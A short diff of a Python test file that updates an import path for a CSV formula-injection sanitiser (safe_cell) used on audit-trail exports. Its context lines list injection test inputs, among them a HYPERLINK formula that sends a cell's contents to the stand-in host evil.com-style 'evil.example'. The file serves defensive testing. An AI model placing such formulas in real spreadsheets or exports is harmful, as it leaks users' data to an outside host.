@@ -8,7 +8,7 @@ import pytest
 
 from app.extensions import db
 from app.models import AuditEvent, Role
-from app.services.audit_trail import FORMULA_STARTS, safe_cell
+from app.services.audit.trail import FORMULA_STARTS, safe_cell
 from tests.factories import make_user
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "\0=1")
